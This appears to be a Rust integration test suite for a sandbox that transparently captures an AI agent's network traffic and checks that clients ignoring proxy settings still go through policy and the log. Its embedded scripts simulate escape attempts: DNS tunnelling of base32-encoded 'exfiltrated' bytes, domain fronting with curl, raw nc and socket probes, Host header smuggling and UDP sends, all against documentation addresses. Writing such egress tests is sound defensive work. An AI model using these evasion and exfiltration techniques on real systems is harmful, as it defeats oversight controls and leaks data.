//! Transparent capture inside `sandbox run` (issue 6): clients that ignore the proxy variables
//! still go through policy and the log. DNS is the supervisor's resolver (synthetic addresses
//! for allowed names, NXDOMAIN and a `dns` record otherwise); every TCP connection reaches the
//! proxy with its original destination; UDP other than DNS is dropped and logged.
//!
//! These tests name documentation addresses (192.0.2.x, 2001:db8::/32). Each one re-runs itself
//! inside a fresh user+network namespace that has only `lo` (as each user), and the script
//! inside the sandbox checks that its namespace is not the test's before it sends anything.

use integration_tests::netns;
use integration_tests::sandbox_harness::{run, tagged, TestDir};
use integration_tests::upstream::{TestCa, Upstream};
use integration_tests::users::{each_user, User};
use serde_json::Value;

/// Python helpers used by the scripts: raw DNS over UDP and TCP to any address (the namespace
/// redirects port 53 to the sandbox's resolver), a raw TCP probe and a raw UDP sender.
const PY_HELPERS: &str = r#"
import socket, struct, sys, base64
def query(name, qtype):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)
def parse(r):
    rcode = r[3] & 15
    ancount = struct.unpack("!H", r[6:8])[0]
    addrs = []
    i = 12
    while r[i]: i += r[i] + 1
    i += 5
    for _ in range(ancount):
        i += 2 + 8
        n = struct.unpack("!H", r[i:i+2])[0]; i += 2
        raw = r[i:i+n]; i += n
        addrs.append(socket.inet_ntop(socket.AF_INET if n == 4 else socket.AF_INET6, raw))
    return rcode, addrs
def dns_udp(server, name, qtype):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(query(name, qtype), (server, 53))
    return parse(s.recv(4096))
def dns_tcp(server, name, qtype):
    s = socket.create_connection((server, 53), timeout=5)
    q = query(name, qtype)
    s.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", s.recv(2))[0]
    r = b""
    while len(r) < n: r += s.recv(n - len(r))
    return parse(r)
def tcp_probe(host, port, payload):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam)
    s.settimeout(10)
    try:
        s.connect((host, port))
        s.sendall(payload)
        data = s.recv(100)
        return "closed" if not data else "data"
    except OSError as e:
        return "error " + e.__class__.__name__ + " " + str(e)
def udp_send(host, port):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        socket.socket(fam, socket.SOCK_DGRAM).sendto(b"escape", (host, port))
        return "sent"
    except OSError as e:
        return "error " + str(e)
"#;

/// The script prologue: stop unless the sandbox's network namespace differs from the test's.
fn netns_guard(test_netns: &str) -> String {
    format!(
        r#"here=$(readlink /proc/self/ns/net)
if [ -z "$here" ] || [ "$here" = "{test_netns}" ]; then echo "NETNS same $here"; exit 3; fi
echo "NETNS other"
"#
    )
}

fn test_netns() -> String {
    std::fs::read_link("/proc/self/ns/net")
        .expect("read /proc/self/ns/net")
        .display()
        .to_string()
}

/// The session's records: an intact chain from `session_start` to `session_end` (nothing the
/// capture logs may come after the end).
fn records(dir: &TestDir) -> Vec<Value> {
    let recs =
        integration_tests::flowcheck::verify_chain(&dir.log_path()).expect("an intact flow log");
    assert_eq!(
        recs.first().map(|r| &r["event"]),
        Some(&Value::from("session_start"))
    );
    assert_eq!(
        recs.last().map(|r| &r["event"]),
        Some(&Value::from("session_end")),
        "{recs:#?}"
    );
    recs
}

fn find(records: &[Value], pred: impl Fn(&Value) -> bool) -> Vec<&Value> {
    records.iter().filter(|r| pred(r)).collect()
}

#[test]
fn clients_that_ignore_proxy_variables_go_through_policy_and_the_log() {
    const NAME: &str = "clients_that_ignore_proxy_variables_go_through_policy_and_the_log";
    if !netns::inside() {
        for user in each_user() {
            netns::rerun(user, NAME);
        }
        return;
    }
    // Inside the test namespace the caller is already the user under test.
    let user = User::Current;
    let dir = TestDir::new(user, "capture");
    let ca = TestCa::new();
    let upstream = Upstream::start(&ca, &["allowed.example"], &["h2", "http/1.1"]);
    let ca_pem = dir.write("upstream-ca.pem", &ca.pem());
    dir.write("ws/helpers.py", PY_HELPERS);
    let contract = dir.contract("write = [\".\"]\n", &["allowed.example"]);
    let connect_to = upstream.connect_to("allowed.example");
    let script = format!(
        r#"{guard}
echo "CURL $(curl --noproxy '*' -sS https://allowed.example/v1/models 2>&1)"
echo "CURL6 $(curl -6 --noproxy '*' -sS https://allowed.example/v1/models 2>&1)"
echo "CURLPROXY $(curl -sS https://allowed.example/v1/models 2>&1)"
echo "CURLBLOCK $(curl --noproxy '*' -sS https://blocked.example/ 2>&1; echo " rc=$?")"
echo "CURLFRONT $(curl --noproxy '*' -sS --connect-to blocked.example:443:allowed.example:443 https://blocked.example/ 2>&1; echo " rc=$?")"
echo "CURLV6LIT $(curl --noproxy '*' -sS -m 10 'https://[2001:db8::1]/' 2>&1; echo " rc=$?")"
echo "CURLHTTP $(curl --noproxy '*' -sS http://allowed.example/v1/models 2>&1)"
echo "RESOLV $(grep -c '^nameserver 127.0.0.1$' /etc/resolv.conf) $( (echo 'nameserver 192.0.2.53' >> /etc/resolv.conf) 2>/dev/null && echo writable || echo read-only)"
echo "GETENT $(getent hosts allowed.example)"
echo "GETENTBLOCK $(getent hosts blocked.example; echo rc=$?)"
env -u NODE_USE_ENV_PROXY -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy node -e '
fetch("https://allowed.example/v1/models").then(r => r.text()).then(t => console.log("NODE rc=0", t)).catch(e => console.log("NODE rc=1", e.cause || e))'
env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy python3 - <<'PY'
import http.client, ssl, sys
sys.path.insert(0, ".")
from helpers import *
try:
    c = http.client.HTTPSConnection("allowed.example", timeout=20, context=ssl.create_default_context())
    c.request("GET", "/v1/models")
    print("PY rc=0", c.getresponse().read().decode())
except Exception as e:
    print("PY rc=1", e)
print("DNSUDP", dns_udp("192.0.2.53", "allowed.example", 1))
print("DNSTCP", dns_tcp("192.0.2.53", "allowed.example", 28))
print("DNSBLOCK", dns_udp("127.0.0.1", "blocked.example", 1))
secret = base64.b32encode(b"exfiltrated-bytes-0123456789").decode().rstrip("=").lower()
print("TUNNEL", dns_udp("192.0.2.53", secret + ".allowed.example", 16), dns_tcp("192.0.2.53", secret + ".blocked.example", 16))
print("NC", tcp_probe("192.0.2.1", 25, b"EHLO sandbox\r\n"))
print("NC6", tcp_probe("2001:db8::1", 2222, b"SSH-2.0-probe\r\n"))
print("NEVERHANDED", tcp_probe("198.18.200.200", 443, b"\x16\x03\x01"))
print("CAPDIRECT", tcp_probe("127.0.0.1", 15001, b"GET /v1/models HTTP/1.1\r\nHost: allowed.example\r\n\r\n"))
print("MAPPED", tcp_probe("::ffff:192.0.2.7", 8443, b"hello"))
print("UDP", udp_send("192.0.2.1", 9))
print("UDP6", udp_send("2001:db8::1", 443))
PY
"#,
        guard = netns_guard(&test_netns())
    );
    let out = run(
        user,
        &dir,
        &[
            "--contract",
            contract.to_str().unwrap(),
            "--connect-to",
            &connect_to,
            "--upstream-ca",
            ca_pem.to_str().unwrap(),
        ],
        &script,
    );
    let ctx = format!("as {}:\n{}", user.label(), out.both());
    assert_eq!(tagged(&out.stdout, "NETNS"), "NETNS other", "{ctx}");
    assert_eq!(out.code, 0, "{ctx}");
    let s = &out.stdout;
    let reached = |tag: &str| tagged(s, tag).contains(r#""path":"/v1/models""#);
    // Allowed: curl without the proxy (IPv4 and IPv6), the proxy-aware default, Node and Python.
    for tag in ["CURL", "CURL6", "CURLPROXY"] {
        assert!(reached(tag), "{tag}: {ctx}");
    }
    assert!(
        tagged(s, "NODE").starts_with("NODE rc=0") && reached("NODE"),
        "{ctx}"
    );
    assert!(
        tagged(s, "PY").starts_with("PY rc=0") && reached("PY"),
        "{ctx}"
    );
    // Denied at DNS, with a clear error for the agent.
    assert!(
        tagged(s, "CURLBLOCK").contains("Could not resolve host"),
        "{ctx}"
    );
    assert!(tagged(s, "GETENTBLOCK").ends_with("rc=2"), "{ctx}");
    // resolv.conf inside names the sandbox's resolver, and the agent cannot change it.
    assert_eq!(tagged(s, "RESOLV"), "RESOLV 1 read-only", "{ctx}");
    // The synthetic answer is from the reserved ranges, never a real address.
    let getent = tagged(s, "GETENT");
    assert!(
        getent.starts_with("GETENT 198.18.") || getent.starts_with("GETENT fd53:616e:6462:6f78:"),
        "{ctx}"
    );
    assert!(tagged(s, "DNSUDP").contains("(0, ['198.18."), "{ctx}");
    assert!(
        tagged(s, "DNSTCP").contains("(0, ['fd53:616e:6462:6f78::"),
        "{ctx}"
    );
    assert_eq!(tagged(s, "DNSBLOCK"), "DNSBLOCK (3, [])", "{ctx}");
    assert_eq!(tagged(s, "TUNNEL"), "TUNNEL (3, []) (3, [])", "{ctx}");
    // SNI must agree with the synthetic address's name; IP literals need a rule.
    for tag in ["CURLFRONT", "CURLV6LIT"] {
        let line = tagged(s, tag);
        assert!(
            !line.contains("/v1/models") && !line.ends_with(" rc=0"),
            "{tag}: {ctx}"
        );
    }
    // Plain http is not in the rule's schemes: the proxy's 403 JSON.
    assert!(tagged(s, "CURLHTTP").contains("egress_denied"), "{ctx}");
    // Raw TCP to an arbitrary port is reset; UDP is dropped with a clear error.
    for tag in ["NC", "NC6"] {
        let line = tagged(s, tag);
        assert!(
            line.contains("Reset") || line.contains("closed"),
            "{tag}: {ctx}"
        );
    }
    // A synthetic address the resolver never handed out, and an IPv4-mapped IPv6 literal.
    for tag in ["NEVERHANDED", "MAPPED"] {
        assert!(tagged(s, tag).contains("Reset"), "{tag}: {ctx}");
    }
    // Dialling the capture listener itself gets the proxy's refusal (127.0.0.1 is never
    // allowed), not the upstream (counted below).
    assert_eq!(tagged(s, "CAPDIRECT"), "CAPDIRECT data", "{ctx}");
    for tag in ["UDP", "UDP6"] {
        assert!(
            tagged(s, tag).contains("Operation not permitted"),
            "{tag}: {ctx}"
        );
    }
    // Exactly the allowed clients reached the upstream.
    let received = upstream.received();
    assert_eq!(received.len(), 5, "{ctx}");

    // The log: every attempt, in one intact chain.
    let recs = records(&dir);
    let log = serde_json::to_string_pretty(&recs).unwrap();
    let enforcement = &recs[0]["detail"]["enforcement"];
    assert_eq!(enforcement["transparent_capture"], "enforced", "{log}");
    assert_eq!(enforcement["landlock-tcp"], "not used (capture)", "{log}");
    let dns_deny = find(&recs, |r| {
        r["kind"] == "dns" && r["decision"] == "deny" && r["detail"]["qname"] == "blocked.example"
    });
    assert!(!dns_deny.is_empty(), "{log}");
    let tunnel = find(&recs, |r| {
        r["kind"] == "dns"
            && r["decision"] == "deny"
            && r["detail"]["qtype"] == "TXT"
            && r["detail"]["qname"]
                .as_str()
                .is_some_and(|q| q.ends_with(".allowed.example") && q.len() > 40)
    });
    assert_eq!(tunnel.len(), 1, "the tunnelling attempt is logged: {log}");
    let dns_allow = find(&recs, |r| {
        r["kind"] == "dns" && r["decision"] == "allow" && r["host"] == "allowed.example"
    });
    assert!(!dns_allow.is_empty(), "{log}");
    let intercepted = find(&recs, |r| {
        r["kind"] == "connect"
            && r["decision"] == "allow"
            && r["host"] == "allowed.example"
            && r["tls"]["sni"] == "allowed.example"
    });
    assert!(intercepted.len() >= 4, "{log}");
    // `status` is the HTTP status the client got: 200 for the one CONNECT (CURLPROXY), none
    // for the captured TLS connections (the requests inside have their own).
    let (connected, captured): (Vec<&&Value>, Vec<&&Value>) =
        intercepted.iter().partition(|r| r["status"] == 200);
    assert_eq!(connected.len(), 1, "{log}");
    assert!(captured.iter().all(|r| r["status"].is_null()), "{log}");
    // The upstream address is the pinned --connect-to one; the agent only saw synthetic ones.
    assert!(
        intercepted
            .iter()
            .all(|r| r["addr"] == "127.0.0.1" || r["addr"] == "::1"),
        "{log}"
    );
    let tcp_deny = |host: &str, port: u64| {
        find(&recs, |r| {
            r["kind"] == "tcp" && r["decision"] == "deny" && r["host"] == host && r["port"] == port
        })
    };
    let nc = tcp_deny("192.0.2.1", 25);
    assert_eq!(nc.len(), 1, "{log}");
    assert_eq!(nc[0]["detail"]["first_bytes_len"], 14, "{log}");
    assert_eq!(nc[0]["detail"]["original_dst"], "192.0.2.1:25", "{log}");
    assert_eq!(tcp_deny("2001:db8::1", 2222).len(), 1, "{log}");
    assert_eq!(tcp_deny("2001:db8::1", 443).len(), 1, "{log}");
    let fronted = tcp_deny("allowed.example", 443);
    assert!(
        fronted.is_empty(),
        "domain fronting is refused by the tunnel's SNI check, not here: {log}"
    );
    let sni = find(&recs, |r| {
        r["kind"] == "connect"
            && r["decision"] == "deny"
            && r["tls"]["sni"] == "blocked.example"
            && r["host"] == "allowed.example"
    });
    assert_eq!(sni.len(), 1, "the SNI mismatch is logged: {log}");
    let udp = |host: &str, port: u64| {
        find(&recs, |r| {
            r["kind"] == "udp" && r["decision"] == "deny" && r["host"] == host && r["port"] == port
        })
        .len()
    };
    let never = find(&recs, |r| {
        r["kind"] == "tcp"
            && r["decision"] == "deny"
            && r["detail"]["original_dst"] == "198.18.200.200:443"
    });
    assert_eq!(never.len(), 1, "{log}");
    assert_eq!(tcp_deny("192.0.2.7", 8443).len(), 1, "{log}");
    let direct = find(&recs, |r| {
        r["decision"] == "deny" && r["host"] == "127.0.0.1" && r["port"] == 15001
    });
    assert_eq!(
        direct.len(),
        1,
        "the direct dial of the capture is refused and logged: {log}"
    );
    assert_eq!(udp("192.0.2.1", 9), 1, "{log}");
    assert_eq!(udp("2001:db8::1", 443), 1, "{log}");
}

/// The issue's acceptance, with the shipped EU example contract: `curl --noproxy '*'` to the
/// Mistral EU API (pointed at a local upstream) is allowed and logged; `blocked.example` fails
/// at DNS with a `dns` deny record; `nc 192.0.2.1 25` is refused and logged; `dig` answers
/// allowed names with synthetic addresses and refuses the rest.
#[test]
fn acceptance_with_the_eu_example_contract() {
    const NAME: &str = "acceptance_with_the_eu_example_contract";
    if !netns::inside() {
        for user in each_user() {
            netns::rerun(user, NAME);
        }
        return;
    }
    let user = User::Current;
    let dir = TestDir::new(user, "capture-eu");
    let ca = TestCa::new();
    let upstream = Upstream::start(&ca, &["api.eu.mistral.ai"], &["h2", "http/1.1"]);
    let ca_pem = dir.write("upstream-ca.pem", &ca.pem());
    let example = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../examples/eu-mistral-bedrock.toml");
    let contract = dir.write(
        "contract.toml",
        &std::fs::read_to_string(&example).expect("read the EU example contract"),
    );
    let log = dir.log_path();
    let connect_to = upstream.connect_to("api.eu.mistral.ai");
    let script = format!(
        r#"{guard}
echo "CURL $(curl --noproxy '*' -sS -X POST https://api.eu.mistral.ai/v1/chat/completions -d '{{}}' 2>&1)"
echo "CURLBLOCK $(curl --noproxy '*' -sS https://blocked.example/ 2>&1; echo " rc=$?")"
if command -v nc >/dev/null; then
  echo "NC $(echo 'EHLO sandbox' | nc -N -w 5 192.0.2.1 25 2>&1; echo " rc=$?")"
else
  echo "NC missing: install netcat-openbsd"
fi
if command -v dig >/dev/null; then
  echo "DIG $(dig +short +tries=1 +time=5 @192.0.2.53 api.eu.mistral.ai A) $(dig +short +tries=1 +time=5 +tcp api.eu.mistral.ai AAAA)"
  echo "DIGBLOCK $(dig +tries=1 +time=5 blocked.example A | grep -o 'status: [A-Z]*')"
else
  echo "DIG missing: install dnsutils"
fi
"#,
        guard = netns_guard(&test_netns())
    );
    let out = run(
        user,
        &dir,
        &[
            "--contract",
            contract.to_str().unwrap(),
            "--log",
            log.to_str().unwrap(),
            "--connect-to",
            &connect_to,
            "--upstream-ca",
            ca_pem.to_str().unwrap(),
            // The example's `done` (`cargo test -p client`) has no project here.
            "--no-checks",
        ],
        &script,
    );
    let ctx = format!("as {}:\n{}", user.label(), out.both());
    assert_eq!(tagged(&out.stdout, "NETNS"), "NETNS other", "{ctx}");
    assert_eq!(out.code, 0, "{ctx}");
    let s = &out.stdout;
    assert!(
        tagged(s, "CURL").contains(r#""path":"/v1/chat/completions""#),
        "{ctx}"
    );
    assert!(
        tagged(s, "CURLBLOCK").contains("Could not resolve host: blocked.example"),
        "{ctx}"
    );
    let nc = tagged(s, "NC");
    assert!(!nc.contains("missing"), "{ctx}");
    assert!(
        !nc.contains("250") && !nc.contains("220"),
        "no SMTP dialogue: {ctx}"
    );
    let dig = tagged(s, "DIG");
    assert!(!dig.contains("missing"), "{ctx}");
    assert!(
        dig.starts_with("DIG 198.18.") && dig.contains(" fd53:616e:6462:6f78::"),
        "{ctx}"
    );
    assert_eq!(tagged(s, "DIGBLOCK"), "DIGBLOCK status: NXDOMAIN", "{ctx}");
    assert_eq!(upstream.received().len(), 1, "{ctx}");

    let recs = records(&dir);
    let log = serde_json::to_string_pretty(&recs).unwrap();
    let allowed = find(&recs, |r| {
        r["kind"] == "request"
            && r["decision"] == "allow"
            && r["host"] == "api.eu.mistral.ai"
            && r["method"] == "POST"
            && r["path"] == "/v1/chat/completions"
            && r["rule"] == "mistral-eu"
    });
    assert_eq!(allowed.len(), 1, "{log}");
    let dns_deny = find(&recs, |r| {
        r["kind"] == "dns" && r["decision"] == "deny" && r["detail"]["qname"] == "blocked.example"
    });
    assert!(!dns_deny.is_empty(), "{log}");
    assert!(
        find(&recs, |r| r["host"] == "blocked.example"
            && r["kind"] != "dns")
        .is_empty(),
        "blocked.example went no further than DNS: {log}"
    );
    let nc = find(&recs, |r| {
        r["kind"] == "tcp" && r["decision"] == "deny" && r["host"] == "192.0.2.1" && r["port"] == 25
    });
    assert_eq!(nc.len(), 1, "{log}");
    assert_eq!(nc[0]["detail"]["first_bytes_len"], 13, "{log}");
}

/// A `protocol = "tcp"` rule: a raw TCP client that ignores the proxy (server speaks first, as
/// SSH does) is spliced to the pinned upstream after the policy decision and logged with
/// bytes; the same name on another port, and plain HTTP to it, are refused.
#[test]
fn protocol_tcp_rules_are_spliced_and_logged_with_bytes() {
    const NAME: &str = "protocol_tcp_rules_are_spliced_and_logged_with_bytes";
    if !netns::inside() {
        for user in each_user() {
            netns::rerun(user, NAME);
        }
        return;
    }
    let user = User::Current;
    let dir = TestDir::new(user, "capture-tcp");
    // A server-first upstream on the test namespace's loopback: banner, then echo one line.
    let server = std::net::TcpListener::bind("127.0.0.1:0").expect("bind the TCP upstream");
    let port = server.local_addr().unwrap().port();
    let accepted = std::thread::spawn(move || {
        use std::io::{BufRead, Write};
        server.set_nonblocking(false).unwrap();
        let (mut conn, _) = server.accept().expect("the spliced connection");
        conn.set_read_timeout(Some(std::time::Duration::from_secs(10)))
            .unwrap();
        conn.write_all(b"SSH-2.0-upstream\r\n").unwrap();
        let mut line = String::new();
        std::io::BufReader::new(conn.try_clone().unwrap())
            .read_line(&mut line)
            .unwrap();
        conn.write_all(format!("echo {line}").as_bytes()).unwrap();
        line
    });
    let contract = dir.write(
        "contract.toml",
        &format!(
            "version = 1\n[task]\nid = \"IT-TCP\"\nclass = \"B\"\nobjective = \"t\"\ndone = []\nrollback = \"none\"\n\
             [files]\nwrite = [\".\"]\n[network]\n\
             [[network.allow]]\nname = \"git-ssh\"\nhost = \"git.example\"\nport = 2222\nprotocol = \"tcp\"\n\
             [log]\npath = \"{}\"\n",
            dir.log_path().display()
        ),
    );
    dir.write("ws/helpers.py", PY_HELPERS);
    let script = format!(
        r#"{guard}
python3 - <<'PY'
import socket, sys
sys.path.insert(0, ".")
from helpers import *
s = socket.create_connection(("git.example", 2222), timeout=10)
banner = s.recv(100)
s.sendall(b"SSH-2.0-agent\r\n")
reply = b""
while not reply.endswith(b"\n"):
    chunk = s.recv(100)
    if not chunk: break
    reply += chunk
print("BANNER", banner.decode().strip())
print("ECHO", reply.decode().strip())
s.close()
print("OTHERPORT", tcp_probe("git.example", 2223, b"x"))
PY
"#,
        guard = netns_guard(&test_netns())
    );
    let connect_to = format!("git.example:2222:127.0.0.1:{port}");
    let out = run(
        user,
        &dir,
        &[
            "--contract",
            contract.to_str().unwrap(),
            "--connect-to",
            &connect_to,
        ],
        &script,
    );
    let ctx = format!("as {}:\n{}", user.label(), out.both());
    assert_eq!(tagged(&out.stdout, "NETNS"), "NETNS other", "{ctx}");
    assert_eq!(out.code, 0, "{ctx}");
    let s = &out.stdout;
    assert_eq!(tagged(s, "BANNER"), "BANNER SSH-2.0-upstream", "{ctx}");
    assert_eq!(tagged(s, "ECHO"), "ECHO echo SSH-2.0-agent", "{ctx}");
    // git.example resolves (a rule names it), but port 2223 has no rule.
    assert!(tagged(s, "OTHERPORT").contains("Reset"), "{ctx}");
    assert_eq!(accepted.join().unwrap(), "SSH-2.0-agent\r\n");

    let recs = records(&dir);
    let log = serde_json::to_string_pretty(&recs).unwrap();
    let allow = find(&recs, |r| {
        r["event"] == "decision"
            && r["kind"] == "tcp"
            && r["decision"] == "allow"
            && r["host"] == "git.example"
            && r["port"] == 2222
            && r["rule"] == "git-ssh"
    });
    assert_eq!(allow.len(), 1, "{log}");
    assert_eq!(allow[0]["addr"], "127.0.0.1", "{log}");
    assert!(
        allow[0]["status"].is_null(),
        "no HTTP status was returned: {log}"
    );
    let end = find(&recs, |r| {
        r["event"] == "end" && r["kind"] == "tcp" && r["flow"] == allow[0]["flow"]
    });
    assert_eq!(end.len(), 1, "{log}");
    assert_eq!(end[0]["bytes_out"], 15, "SSH-2.0-agent\\r\\n: {log}");
    assert_eq!(end[0]["bytes_in"], 18 + 20, "banner and echo: {log}");
    let other = find(&recs, |r| {
        r["kind"] == "tcp"
            && r["decision"] == "deny"
            && r["host"] == "git.example"
            && r["port"] == 2223
    });
    assert_eq!(other.len(), 1, "{log}");
}

/// Plain HTTP captured on port 80: decided by the Host (which must name the host behind the
/// synthetic address) and the rule's schemes, like an absolute-form proxy request.
#[test]
fn plain_http_is_decided_by_host_and_must_match_the_synthetic_name() {
    const NAME: &str = "plain_http_is_decided_by_host_and_must_match_the_synthetic_name";
    if !netns::inside() {
        for user in each_user() {
            netns::rerun(user, NAME);
        }
        return;
    }
    let user = User::Current;
    let dir = TestDir::new(user, "capture-http");
    let upstream = Upstream::start_plain();
    let contract = dir.write(
        "contract.toml",
        &format!(
            "version = 1\n[task]\nid = \"IT-HTTP\"\nclass = \"B\"\nobjective = \"t\"\ndone = []\nrollback = \"none\"\n\
             [files]\nwrite = [\".\"]\n[network]\n\
             [[network.allow]]\nname = \"plain\"\nhost = \"plain.example\"\nport = 80\nschemes = [\"http\"]\nmethods = [\"GET\"]\n\
             [[network.allow]]\nname = \"other\"\nhost = \"other.example\"\nport = 80\nschemes = [\"http\"]\n\
             [log]\npath = \"{}\"\n",
            dir.log_path().display()
        ),
    );
    let script = format!(
        r#"{guard}
env -u HTTP_PROXY -u http_proxy python3 - <<'PY'
import http.client
def get(host, headers={{}}, method="GET"):
    try:
        c = http.client.HTTPConnection(host, timeout=20)
        c.request(method, "/v1/x", headers=headers)
        r = c.getresponse()
        return "%d %s" % (r.status, r.read().decode())
    except Exception as e:
        return "error %s" % e
print("PLAIN", get("plain.example"))
print("SMUGGLEHOST", get("plain.example", {{"Host": "other.example"}}))
print("METHOD", get("plain.example", method="DELETE"))
print("PROPFIND", get("plain.example", method="PROPFIND"))
print("EXTMETHOD", get("plain.example", method="X-SYNC_2"))
PY
"#,
        guard = netns_guard(&test_netns())
    );
    let connect_to = format!("plain.example:80:{}", upstream.addr);
    let connect_other = format!("other.example:80:{}", upstream.addr);
    let out = run(
        user,
        &dir,
        &[
            "--contract",
            contract.to_str().unwrap(),
            "--connect-to",
            &connect_to,
            "--connect-to",
            &connect_other,
        ],
        &script,
    );
    let ctx = format!("as {}:\n{}", user.label(), out.both());
    assert_eq!(tagged(&out.stdout, "NETNS"), "NETNS other", "{ctx}");
    assert_eq!(out.code, 0, "{ctx}");
    let s = &out.stdout;
    assert!(
        tagged(s, "PLAIN").starts_with("PLAIN 200") && tagged(s, "PLAIN").contains("/v1/x"),
        "{ctx}"
    );
    // A connection to plain.example's synthetic address cannot reach another virtual host.
    assert!(
        tagged(s, "SMUGGLEHOST").starts_with("SMUGGLEHOST 421"),
        "{ctx}"
    );
    assert!(
        tagged(s, "METHOD").starts_with("METHOD 403")
            && tagged(s, "METHOD").contains("egress_denied"),
        "{ctx}"
    );
    // Methods outside the common list are still HTTP: decided by the policy (403), not reset.
    for tag in ["PROPFIND", "EXTMETHOD"] {
        assert!(
            tagged(s, tag).starts_with(&format!("{tag} 403"))
                && tagged(s, tag).contains("egress_denied"),
            "{ctx}"
        );
    }
    assert_eq!(upstream.received().len(), 1, "{ctx}");
    let recs = records(&dir);
    let log = serde_json::to_string_pretty(&recs).unwrap();
    let allowed = find(&recs, |r| {
        r["kind"] == "request"
            && r["event"] == "decision"
            && r["decision"] == "allow"
            && r["host"] == "plain.example"
            && r["path"] == "/v1/x"
    });
    assert_eq!(allowed.len(), 1, "{log}");
    let misdirected = find(&recs, |r| r["kind"] == "request" && r["status"] == 421);
    assert_eq!(misdirected.len(), 1, "{log}");
    for method in ["PROPFIND", "X-SYNC_2"] {
        let denied = find(&recs, |r| {
            r["kind"] == "request"
                && r["decision"] == "deny"
                && r["method"] == method
                && r["host"] == "plain.example"
                && r["status"] == 403
        });
        assert_eq!(denied.len(), 1, "{method}: {log}");
    }
    assert!(
        find(&recs, |r| r["kind"] == "tcp" && r["decision"] == "deny").is_empty(),
        "no captured connection was reset as non-HTTP: {log}"
    );
}
